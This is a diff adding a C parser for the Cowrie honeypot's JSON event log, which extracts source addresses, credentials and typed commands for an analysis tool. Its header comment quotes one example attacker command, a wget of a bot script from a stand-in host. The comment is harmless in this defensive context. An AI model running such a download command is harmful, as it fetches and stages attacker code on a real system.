@@ -0,0 +1,298 @@
+/**
+ * cowrie_json.c - Streaming reader for cowrie's JSON-lines event log
+ *
+ * cowrie.json has one flat JSON object per line. We walk each object once,
+ * copy out the handful of top-level keys quorum needs (src_ip, eventid,
+ * session, username, password, input, timestamp) and skip everything else
+ * without building a tree.
+ *
+ * WHY NOT SCRAPE cowrie.log:
+ * The text log mixes the attacker's address with whatever they typed.
+ * "wget http://203.0.113.9/bot.sh" would make 203.0.113.9 look like an
+ * attacker. In the JSON log the source address is its own field.
+ */
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include "cowrie_json.h"
+#include "ip_table.h"
+#include "log_time.h"
+
+#define MAX_KEY_LENGTH 32
+
+typedef struct {
+    const char* p;
+    const char* end;
+} json_reader_t;
+
+static const struct {
+    const char* eventid;
+    cowrie_event_type_t type;
+} event_types[] = {
+    { "cowrie.session.connect",       COWRIE_EVENT_CONNECT },
+    { "cowrie.login.failed",          COWRIE_EVENT_LOGIN_FAILED },
+    { "cowrie.login.success",         COWRIE_EVENT_LOGIN_SUCCESS },
+    { "cowrie.command.input",         COWRIE_EVENT_COMMAND },
+    { "cowrie.command.failed",        COWRIE_EVENT_COMMAND },
+    { "cowrie.session.file_download", COWRIE_EVENT_FILE_DOWNLOAD },
+    { "cowrie.session.closed",        COWRIE_EVENT_CLOSED },
+};
+
+cowrie_event_type_t cowrie_event_type(const char* eventid) {
+    if (!eventid) return COWRIE_EVENT_OTHER;
+    for (size_t i = 0; i < sizeof(event_types) / sizeof(event_types[0]); i++) {
+        if (strcmp(eventid, event_types[i].eventid) == 0) {
+            return event_types[i].type;
+        }
+    }
+    return COWRIE_EVENT_OTHER;
+}
+
+/* ============================================================================
+ * Minimal JSON scanning
+ * ============================================================================ */
+
+static void skip_whitespace(json_reader_t* r) {
+    while (r->p < r->end && (*r->p == ' ' || *r->p == '\t' || *r->p == '\r' || *r->p == '\n')) {
+        r->p++;
+    }
+}
+
+static int hex_value(char c) {
+    if (c >= '0' && c <= '9') return c - '0';
+    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
+    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
+    return -1;
+}
+
+// Append one code point as UTF-8, if it fits
+static size_t put_utf8(char* out, size_t pos, size_t out_size, unsigned cp) {
+    char buf[3];
+    size_t n;
+    if (cp < 0x80) {
+        buf[0] = (char)cp;
+        n = 1;
+    } else if (cp < 0x800) {
+        buf[0] = (char)(0xc0 | (cp >> 6));
+        buf[1] = (char)(0x80 | (cp & 0x3f));
+        n = 2;
+    } else {
+        buf[0] = (char)(0xe0 | (cp >> 12));
+        buf[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
+        buf[2] = (char)(0x80 | (cp & 0x3f));
+        n = 3;
+    }
+    if (pos + n < out_size) {
+        memcpy(out + pos, buf, n);
+        pos += n;
+    }
+    return pos;
+}
+
+/**
+ * Read a string value starting at the opening quote
+ * Decodes escapes into out (truncating), or just skips it if out is NULL.
+ */
+static bool read_string(json_reader_t* r, char* out, size_t out_size) {
+    if (r->p >= r->end || *r->p != '"') return false;
+    r->p++;
+
+    size_t pos = 0;
+    while (r->p < r->end) {
+        char c = *r->p++;
+        if (c == '"') {
+            if (out) out[pos] = '\0';
+            return true;
+        }
+        if (c != '\\') {
+            if (out && pos + 1 < out_size) out[pos++] = c;
+            continue;
+        }
+
+        if (r->p >= r->end) return false;
+        char esc = *r->p++;
+        if (!out) {
+            continue;  // Only need to step over the escaped character
+        }
+
+        switch (esc) {
+        case 'n': c = '\n'; break;
+        case 't': c = '\t'; break;
+        case 'r': c = '\r'; break;
+        case 'b': c = '\b'; break;
+        case 'f': c = '\f'; break;
+        case 'u': {
+            if (r->end - r->p < 4) return false;
+            unsigned cp = 0;
+            for (int i = 0; i < 4; i++) {
+                int v = hex_value(r->p[i]);
+                if (v < 0) return false;
+                cp = (cp << 4) | (unsigned)v;
+            }
+            r->p += 4;
+            // Surrogate pairs are rare in shell input; keep a placeholder
+            if (cp >= 0xd800 && cp <= 0xdfff) cp = '?';
+            pos = put_utf8(out, pos, out_size, cp);
+            continue;
+        }
+        default: c = esc; break;  // \" \\ \/
+        }
+        if (pos + 1 < out_size) out[pos++] = c;
+    }
+    return false;
+}
+
+/**
+ * Skip any value: string, number, literal, or a nested object/array
+ */
+static bool skip_value(json_reader_t* r) {
+    if (r->p >= r->end) return false;
+
+    if (*r->p == '"') {
+        return read_string(r, NULL, 0);
+    }
+
+    if (*r->p == '{' || *r->p == '[') {
+        int depth = 0;
+        while (r->p < r->end) {
+            char c = *r->p;
+            if (c == '"') {
+                if (!read_string(r, NULL, 0)) return false;
+                continue;
+            }
+            if (c == '{' || c == '[') depth++;
+            if (c == '}' || c == ']') depth--;
+            r->p++;
+            if (depth == 0) return true;
+        }
+        return false;
+    }
+
+    // Number, true, false or null
+    const char* start = r->p;
+    while (r->p < r->end && *r->p != ',' && *r->p != '}' && *r->p != ']' &&
+           *r->p != ' ' && *r->p != '\t') {
+        r->p++;
+    }
+    return r->p > start;
+}
+
+// Where a wanted key's string value goes, or NULL to skip the value
+static char* field_for_key(cowrie_event_t* event, const char* key, size_t* size,
+                           char* timestamp, size_t timestamp_size) {
+    switch (key[0]) {
+    case 'e':
+        if (strcmp(key, "eventid") == 0) { *size = sizeof(event->eventid); return event->eventid; }
+        break;
+    case 'i':
+        if (strcmp(key, "input") == 0) { *size = sizeof(event->input); return event->input; }
+        break;
+    case 'p':
+        if (strcmp(key, "password") == 0) { *size = sizeof(event->password); return event->password; }
+        break;
+    case 's':
+        if (strcmp(key, "src_ip") == 0) { *size = sizeof(event->src_ip); return event->src_ip; }
+        if (strcmp(key, "session") == 0) { *size = sizeof(event->session); return event->session; }
+        break;
+    case 't':
+        if (strcmp(key, "timestamp") == 0) { *size = timestamp_size; return timestamp; }
+        break;
+    case 'u':
+        if (strcmp(key, "username") == 0) { *size = sizeof(event->username); return event->username; }
+        break;
+    }
+    return NULL;
+}
+
+/* ============================================================================
+ * Public API
+ * ============================================================================ */
+
+/**
+ * Parse cowrie's ISO-8601 timestamp ("2024-03-12T08:15:02.123456Z")
+ * Returns seconds since the epoch, or 0 if it cannot be parsed.
+ */
+time_t cowrie_parse_timestamp(const char* timestamp) {
+    if (!timestamp) return 0;
+    return log_time_parse(timestamp, strlen(timestamp));
+}
+
+/**
+ * Decode the whole input value when the stored copy was cut short
+ * Decoding never grows the text, so the escaped length is enough room.
+ */
+char* cowrie_event_full_input(const cowrie_event_t* event) {
+    if (!event || !event->input_json) return NULL;
+    size_t escaped = event->input_json_len - 2;     // Without the quotes
+    if (escaped < sizeof(event->input)) return NULL;
+
+    char* full = malloc(escaped + 1);
+    if (!full) return NULL;
+    json_reader_t r = { event->input_json, event->input_json + event->input_json_len };
+    if (!read_string(&r, full, escaped + 1)) {
+        free(full);
+        return NULL;
+    }
+    return full;
+}
+
+/**
+ * Extract the quorum-relevant fields from one cowrie.json line
+ *
+ * @return 0 if the line is a JSON object with an eventid, -1 otherwise
+ */
+int cowrie_json_parse_line(const char* line, size_t len, cowrie_event_t* event) {
+    if (!line || !event) return -1;
+    memset(event, 0, sizeof(cowrie_event_t));
+
+    json_reader_t r = { line, line + len };
+    char timestamp[40] = {0};
+
+    skip_whitespace(&r);
+    if (r.p >= r.end || *r.p != '{') return -1;
+    r.p++;
+
+    for (;;) {
+        skip_whitespace(&r);
+        if (r.p >= r.end) return -1;
+        if (*r.p == '}') break;
+
+        char key[MAX_KEY_LENGTH];
+        if (!read_string(&r, key, sizeof(key))) return -1;
+
+        skip_whitespace(&r);
+        if (r.p >= r.end || *r.p != ':') return -1;
+        r.p++;
+        skip_whitespace(&r);
+
+        size_t size = 0;
+        char* field = field_for_key(event, key, &size, timestamp, sizeof(timestamp));
+        const char* value = r.p;
+        bool ok = (field && r.p < r.end && *r.p == '"') ? read_string(&r, field, size)
+                                                         : skip_value(&r);
+        if (!ok) return -1;
+        if (field == event->input) {
+            event->input_json = value;
+            event->input_json_len = (size_t)(r.p - value);
+        }
+
+        skip_whitespace(&r);
+        if (r.p < r.end && *r.p == ',') {
+            r.p++;
+        } else if (r.p >= r.end || *r.p != '}') {
+            return -1;
+        }
+    }
+
+    if (event->eventid[0] == '\0') return -1;
+
+    event->type = cowrie_event_type(event->eventid);
+    event->timestamp = cowrie_parse_timestamp(timestamp);
+    if (event->src_ip[0] && ip_addr_parse(event->src_ip, &event->addr)) {
+        event->has_addr = true;
+        ip_addr_format(&event->addr, event->src_ip, sizeof(event->src_ip));
+    }
+    return 0;
+}